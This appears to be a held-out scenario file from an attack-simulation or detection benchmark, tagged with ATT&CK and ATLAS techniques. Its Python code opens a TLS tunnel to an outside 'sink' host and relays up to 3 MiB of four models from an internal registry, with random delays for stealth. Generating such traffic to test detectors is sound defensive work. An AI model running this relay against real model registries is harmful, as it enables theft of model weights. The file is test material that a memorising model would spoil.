"""
id: V45
name: relay-to-registry
class: quiet
set: held-out
phase: serve
trigger: request
evidence: [network, dns]
techniques: [T1090.001, T1572, T1213, T1041, AML.T0025, AML.T0035]
servers: [fastapi, bentoml]
seconds: 100
what: >
  A relay: one connection to a name nobody asked for, over which somebody outside reaches the registry as if he were the server.
  What the registry answers is handed on as it comes, the first 3 MiB of four models that the server never had.
"""

import http.client

from corpus import tls

MODELS = 4
MOST = 3 << 20
PIECE = 16 * 1024


def payload(world):
    with tls.connection(world.sink_name, world.sink_port(), world.sink_name) as outside:
        for _ in range(MODELS):
            outside.sendall(tls.records(world.random.randbytes(200)))
            tls.take(outside)
            relay(world, outside, f"/models/{world.word()}/{world.random.randint(1, 9)}")
            world.sleep(world.random.uniform(4, 10))


def relay(world, outside, path):
    inside = http.client.HTTPConnection(*world.registry, timeout=30)
    try:
        inside.request("GET", path)
        answer = inside.getresponse()
        outside.settimeout(10)
        for _ in range(MOST // PIECE):
            outside.sendall(tls.records(answer.read(PIECE)))
            world.sleep(world.random.uniform(0, 0.06))
    finally:
        inside.close()
